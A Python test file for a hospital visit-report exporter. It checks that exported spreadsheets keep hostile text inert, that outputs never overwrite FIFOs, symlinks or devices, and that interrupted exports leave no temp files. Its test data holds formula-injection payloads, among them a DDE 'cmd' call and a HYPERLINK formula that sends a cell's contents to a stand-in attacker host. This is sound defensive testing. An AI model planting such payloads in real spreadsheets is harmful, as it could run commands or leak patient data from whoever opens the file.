"""Hostile text and hostile paths in the reports (issue 18 items 5, 9, 10, 12)."""

from __future__ import annotations

import datetime as dt
import os
import signal
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.authen.visit_log import OK
from app.main import main
from app.reports.common import TEMP_FOLDER
from app.reports.visits import default_log_path
from app.settings.model import Settings, save_settings
from tests.reports.conftest import VisitLogWriter
from tests.support.nhso_export import made_up_cid, pp_code
from tests.support.platform import assert_private

ROOT = Path(__file__).parents[2]
HOSTILE = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&C2,"คลิก")',
    "+66812345678",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def _formula_cells(path: Path) -> list[str]:
    """Every cell the file stores as a formula (<f>) or as an error (t="e")."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = archive.read(name).decode()
                if "<f>" in xml or 't="e"' in xml:
                    found.append(name)
    return found


@pytest.fixture
def hostile_log(visit_log: VisitLogWriter) -> VisitLogWriter:
    save_settings(Settings(hcode="12345", hospital_name='=HYPERLINK("http://x")'))
    for n, text in enumerate(HOSTILE):
        visit_log.add(
            dt.datetime(2026, 11, 30, 9, n),
            OK,
            pid=made_up_cid(300 + n),
            claim_code=pp_code(n),
            name=text,
            staff=(made_up_cid(800 + n), text),
        )
    with sqlite3.connect(default_log_path()) as db:  # what a typed HN and a bad card hold
        db.execute(
            "UPDATE visits SET hn = ?, mobile = ?", ("=cmd|'/C calc'!A0", "+6681\x00\x1b[2J")
        )
    return visit_log


def test_no_text_becomes_a_formula_in_the_export(
    hostile_log: VisitLogWriter, tmp_path: Path
) -> None:
    out = tmp_path / "visits.xlsx"
    assert main(["export", "--from", "2026-11-30", "--to", "2026-11-30", "--out", str(out)]) == 0
    assert _formula_cells(out) == []
    book = load_workbook(out)
    sheet = book.worksheets[0]
    names = [str(row[3].value) for row in sheet.iter_rows(min_row=2)]
    # the text is kept (XML reads a CR back as LF), only never live
    assert sorted(names) == sorted(t.replace("\r", "\n") for t in HOSTILE)
    first = sheet.cell(row=2, column=4)
    assert first.data_type == "s" and first.quotePrefix  # stays text when edited in Excel
    assert sheet.cell(row=2, column=9).value == "=cmd|'/C calc'!A0"  # the HN
    assert sheet.cell(row=2, column=5).value == "+6681[2J"  # what XML cannot hold is cleaned
    summary = [c.value for row in book.worksheets[1].iter_rows() for c in row]
    assert "=cmd|'/C calc'!A0" in summary  # a staff name in the summary


def test_a_desk_name_never_becomes_a_formula(hostile_log: VisitLogWriter, tmp_path: Path) -> None:
    """The desk column (several desks, app/store) goes through the same safe cells: a desk
    name comes from another desk's settings, through the shared store."""
    from app.reports.visit_export import COLUMNS

    with sqlite3.connect(default_log_path()) as db:
        db.execute("UPDATE visits SET desk = ?", ('=HYPERLINK("http://evil.example")',))
    out = tmp_path / "visits.xlsx"
    assert main(["export", "--from", "2026-11-30", "--to", "2026-11-30", "--out", str(out)]) == 0
    assert _formula_cells(out) == []
    sheet = load_workbook(out).worksheets[0]
    column = [name for name, _ in COLUMNS].index("จุดบริการ") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, 2 + len(HOSTILE))]
    assert {c.value for c in cells} == {'=HYPERLINK("http://evil.example")'}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_no_text_becomes_a_formula_in_the_staff_list(
    hostile_log: VisitLogWriter, tmp_path: Path
) -> None:
    out = tmp_path / "staff.xlsx"
    assert main(["export-staff-list", "--out", str(out)]) == 0
    assert _formula_cells(out) == []
    sheet = load_workbook(out).worksheets[0]
    names = sorted(str(row[3].value) for row in sheet.iter_rows(min_row=2))
    assert names == sorted(t.replace("\r", "\n") for t in HOSTILE)
    assert sheet.cell(row=2, column=3).value == '=HYPERLINK("http://x")'


# --- outputs only ever replace a regular file ----------------------------------------------


def _not_files(tmp_path: Path) -> list[tuple[str, Path]]:
    fifo = tmp_path / "fifo.xlsx"
    os.mkfifo(fifo)
    folder = tmp_path / "folder.xlsx"
    folder.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    link = tmp_path / "link.xlsx"
    link.symlink_to(victim)
    return [("FIFO", fifo), ("folder", folder), ("symbolic link", link)]


@pytest.mark.posix_only("mkfifo: POSIX; the Windows form is tested below")
@pytest.mark.parametrize("command", ["export", "export-staff-list"])
def test_reports_refuse_what_is_not_a_file(
    hostile_log: VisitLogWriter, tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    for kind, target in _not_files(tmp_path):
        argv = [command, "--out", str(target)]
        if command == "export":
            argv += ["--from", "2026-11-30", "--to", "2026-11-30"]
        assert main(argv) == 73, kind
        err = capsys.readouterr().err
        assert str(target) in err and kind in err, err
    assert (tmp_path / "fifo.xlsx").is_fifo() and (tmp_path / "folder.xlsx").is_dir()
    assert (tmp_path / "link.xlsx").is_symlink() and (
        tmp_path / "victim.txt"
    ).read_text() == "keep me"
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


@pytest.mark.posix_only("/dev/null: POSIX; Windows' device names: tests/cli/test_regular_files.py")
def test_export_to_dev_null_leaves_the_device(
    hostile_log: VisitLogWriter, capsys: pytest.CaptureFixture[str]
) -> None:
    assert Path("/dev/null").is_char_device()
    before = os.stat("/dev/null")
    code = main(["export", "--from", "2026-11-30", "--to", "2026-11-30", "--out", "/dev/null"])
    assert code == 73 and "device" in capsys.readouterr().err
    after = os.stat("/dev/null")
    assert (after.st_ino, after.st_mode) == (before.st_ino, before.st_mode)


# --- an interrupted export leaves nothing ----------------------------------------------------


def _many_visits(visit_log: VisitLogWriter, doublings: int) -> None:
    visit_log.add(dt.datetime(2026, 11, 30, 9), OK, claim_code=pp_code(1))
    with sqlite3.connect(default_log_path()) as db:
        # each copy its own id and global id (the log's trigger gives one: app/store)
        skip = ("id", "global_id")
        columns = [r[1] for r in db.execute("PRAGMA table_info(visits)") if r[1] not in skip]
        names = ", ".join(columns)
        for _ in range(doublings):
            db.execute(f"INSERT INTO visits ({names}) SELECT {names} FROM visits")


def _leftovers(*folders: Path) -> list[Path]:
    return [p for folder in folders if folder.exists() for p in folder.iterdir()]


@pytest.mark.posix_only("SIGTERM: Windows' send_signal is TerminateProcess, which no one catches")
def test_sigterm_during_an_export_leaves_nothing(
    visit_log: VisitLogWriter, app_home: Path, tmp_path: Path
) -> None:
    """A real child process, killed with SIGTERM while it writes rows."""
    _many_visits(visit_log, 16)  # 65 536 visits: several seconds of writing
    visit_log.log.close()
    out_dir, temp_dir = tmp_path / "out", tmp_path / "tmp"
    out_dir.mkdir()
    temp_dir.mkdir()
    private_temp = app_home / "state" / TEMP_FOLDER
    env = {**os.environ, "TMPDIR": str(temp_dir), "TEMP": str(temp_dir), "TMP": str(temp_dir)}
    argv = [
        "export",
        "--from",
        "2026-11-30",
        "--to",
        "2026-11-30",
        "--out",
        str(out_dir / "v.xlsx"),
    ]
    child = subprocess.Popen(
        [sys.executable, "-m", "app.main", *argv], cwd=ROOT, env=env,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and child.poll() is None:
            temps = [p for p in _leftovers(temp_dir, private_temp) if p.name.startswith("openpyxl")]
            if temps and any(p.stat().st_size > 0 for p in temps) and _leftovers(out_dir):
                break
            time.sleep(0.02)
        assert child.poll() is None, "the export ended before it could be interrupted"
        child.send_signal(signal.SIGTERM)
        child.wait(timeout=30)
    finally:
        if child.poll() is None:
            child.kill()
            child.wait()
    assert child.returncode == 130, child.stderr.read() if child.stderr else ""
    assert _leftovers(out_dir) == []
    assert _leftovers(temp_dir, private_temp) == []


def test_a_killed_exports_temp_files_are_private_and_swept(
    visit_log: VisitLogWriter, app_home: Path, tmp_path: Path
) -> None:
    """SIGKILL cannot be caught: what it leaves is in our 0700 folder, and the next export
    removes it once it is stale."""
    from app.reports.common import STALE_TEMP_SECONDS, report_temp_folder

    folder = report_temp_folder()
    assert_private(folder)
    old = folder / "openpyxl.leftover"
    old.write_text("CIDs")
    os.utime(old, (time.time() - STALE_TEMP_SECONDS - 5,) * 2)
    visit_log.add(dt.datetime(2026, 11, 30, 9), OK, claim_code=pp_code(1))
    assert (
        main(
            [
                "export",
                "--from",
                "2026-11-30",
                "--to",
                "2026-11-30",
                "--out",
                str(tmp_path / "v.xlsx"),
            ]
        )
        == 0
    )
    assert not old.exists()


# --- dates typed on the command line -----------------------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [
        ["export", "--from", "2569-11-01", "--to", "2026-11-30", "--out", "x.xlsx"],
        ["export", "--from", "2026-11-01", "--to", "2569-11-30", "--out", "x.xlsx"],
        ["history", "--date", "2569-12-04"],
        ["verify-day", "--date", "2569-12-04"],
    ],
)
def test_a_buddhist_era_year_is_a_usage_error(
    app_home: Path, capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    assert main(argv) == 64
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1
    assert "Christian-era" in err and "2026-1" in err  # says which year was meant


def test_cancel_leaves_no_openpyxl_temp_file_anywhere(
    visit_log: VisitLogWriter, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The window's Cancel (and Ctrl+C) mid-export: neither our folder nor the shared temp
    folder keeps a sheet of patient data."""
    import tempfile

    from app.reports.common import ExportCancelled, report_temp_folder
    from app.reports.visit_export import export_visits
    from app.reports.visits import open_visits

    shared = tmp_path / "shared-temp"
    shared.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(shared))
    _many_visits(visit_log, 10)  # 1 024 visits
    out = tmp_path / "v.xlsx"
    for stop in (lambda done, total: False, _interrupt):
        day = dt.date(2026, 11, 30)
        with (
            pytest.raises((ExportCancelled, KeyboardInterrupt)),
            open_visits(None, day, day) as visits,
        ):
            export_visits(visits.rows, out, start=day, end=day, total=visits.total, progress=stop)
        assert _leftovers(shared, report_temp_folder()) == []
        assert not out.exists() and not [p for p in tmp_path.iterdir() if ".part" in p.name]


def _interrupt(done: int, total: int) -> bool:
    raise KeyboardInterrupt
